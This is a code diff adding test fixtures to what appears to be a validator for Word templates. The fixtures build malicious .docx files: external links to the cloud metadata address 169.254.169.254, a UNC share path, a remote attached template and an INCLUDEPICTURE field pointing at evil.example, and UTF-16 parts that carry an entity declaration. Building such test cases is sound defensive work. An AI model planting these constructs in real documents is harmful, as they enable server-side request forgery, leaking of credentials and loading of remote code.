@@ -87,6 +87,63 @@ def external_link() -> bytes:
     return rezip(clean_template(), change)
 
 
+def _relationship(part: str, relationship: bytes) -> Callable[[str, bytes], bytes | None]:
+    def change(name: str, content: bytes) -> bytes | None:
+        if name == part:
+            return content.replace(b"</Relationships>", relationship + b"</Relationships>")
+        return None
+    return change
+
+
+def external_link_single_quotes() -> bytes:
+    # The same link written with single quotes (valid XML) slipped past a string match.
+    return rezip(clean_template(), _relationship("word/_rels/document.xml.rels", (
+        b"<Relationship Id='rIdY' Type='http://schemas.openxmlformats.org/officeDocument/"
+        b"2006/relationships/image' Target='http://169.254.169.254/latest/meta-data/' "
+        b"TargetMode='External'/>")))
+
+
+def network_path_target() -> bytes:
+    return rezip(clean_template(), _relationship("word/_rels/document.xml.rels", (
+        b'<Relationship Id="rIdZ" Type="http://schemas.openxmlformats.org/officeDocument/'
+        b'2006/relationships/image" Target="\\\\fileserver\\share\\seal.png"/>')))
+
+
+def remote_attached_template() -> bytes:
+    rels = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            b"<Relationship Id='rIdT' Type='http://schemas.openxmlformats.org/officeDocument/"
+            b"2006/relationships/attachedTemplate' Target='https://evil.example/normal.dotm' "
+            b"TargetMode='External'/></Relationships>")
+
+    def change(name: str, content: bytes) -> bytes | None:
+        if name == "word/settings.xml":
+            return content.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rIdT"/><w:zoom', 1)
+        return None
+    return rezip(clean_template(), change, extra={"word/_rels/settings.xml.rels": rels})
+
+
+def include_picture_field() -> bytes:
+    return rezip(clean_template(), _in_body(
+        "</w:body>", '<w:p><w:fldSimple w:instr=\'INCLUDEPICTURE "http://evil.example/p.png" \\d\'/>'
+        "</w:p></w:body>"))
+
+
+def utf16_doctype() -> bytes:
+    part = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'
+            ).encode("utf-16")
+    return rezip(clean_template(), extra={"customXml/item9.xml": part})
+
+
+def utf16_document() -> bytes:
+    def change(name: str, content: bytes) -> bytes | None:
+        if name == "word/document.xml":
+            return content.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"', 1
+                                                   ).encode("utf-16")
+        return None
+    return rezip(clean_template(), change)
+
+
 def syntax_error() -> bytes:
     return clean_template("前文", "{% if organization.name %}団体名")
 
@@ -118,6 +175,12 @@ BAD_TEMPLATES: dict[str, tuple[Callable[[], bytes], str]] = {
     "macros": (macros, "マクロ（vbaProject.bin）"),
     "ole_object": (ole_object, "埋め込みオブジェクト（OLE）"),
     "external_link": (external_link, "http://evil.example/x"),
+    "external_link_single_quotes": (external_link_single_quotes, "http://169.254.169.254/"),
+    "network_path_target": (network_path_target, "fileserver"),
+    "remote_attached_template": (remote_attached_template, "https://evil.example/normal.dotm"),
+    "include_picture_field": (include_picture_field, "外部から内容を取り込むフィールド（INCLUDEPICTURE）"),
+    "utf16_doctype": (utf16_doctype, "XMLの実体宣言"),
+    "utf16_document": (utf16_document, "文字コードがUTF-8ではありません"),
     "syntax_error": (syntax_error, "「{% if organization.name %}団体名」の段落"),
     "unknown_placeholder": (unknown_placeholder, "この種類の文書にない差込項目があります: applicant_seal"),
     "fullwidth_braces": (fullwidth_braces, "全角の括弧や％"),
